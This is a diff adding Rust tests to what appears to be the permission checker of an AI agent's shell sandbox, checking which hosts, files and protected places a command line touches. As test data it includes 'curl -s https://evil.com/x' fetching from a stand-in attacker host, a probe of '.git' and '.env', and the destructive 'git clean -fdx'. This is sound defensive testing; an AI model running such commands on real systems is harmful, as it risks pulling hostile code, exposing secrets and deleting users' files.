@@ -47,6 +47,29 @@ async fn only_full_access_leaves_the_cage() {
     }
 }
 
+/// A rule that denies a host holds what a line plainly reaches.
+#[tokio::test]
+async fn full_access_needs_the_hosts_that_a_line_names() {
+    let mut bench = with(FakeSandbox::new());
+    bench.context.mode = AccessMode::Full;
+    let needs = bench.needs("shell", json!({ "command": "curl -s https://evil.com/x" })).await;
+    assert!(needs.contains(&Need::Network { host: "evil.com".to_owned() }), "{needs:?}");
+}
+
+/// What looks like a path names nothing where nothing is.
+#[tokio::test]
+async fn output_comes_from_files_that_are_there() {
+    let bench = with(FakeSandbox::new().when("", Reply::exits(0, "")));
+    let sources = |line: &str| {
+        let command = crate::command::Command::read(line.to_owned(), Duration::from_secs(1), &[]);
+        let sources = command.unwrap().sources(AccessMode::Auto, &bench.context);
+        sources.iter().map(ToString::to_string).collect::<Vec<_>>().join(", ")
+    };
+    assert_eq!(sources("cat /etc/x"), "read /etc/x");
+    assert_eq!(sources("curl http://127.0.0.1:3000/health"), "");
+    assert_eq!(sources("npm install --registry=https://registry.example.org"), "");
+}
+
 /// Where nothing holds a command, its line is judged by the protected places that it changes, spelled or not.
 #[tokio::test]
 async fn full_access_needs_a_word_for_protected_places() {
@@ -62,6 +85,8 @@ async fn full_access_needs_a_word_for_protected_places() {
         ("find . -name '*.pyc' -delete", None),
         ("rm -rf build", None),
         ("git commit -am x && git push", None),
+        ("cat .git/HEAD; ls .git; test -f .env", None),
+        ("git clean -fdx", None),
     ] {
         let needs = bench.needs("shell", json!({ "command": line })).await;
         let written: Vec<&str> = needs
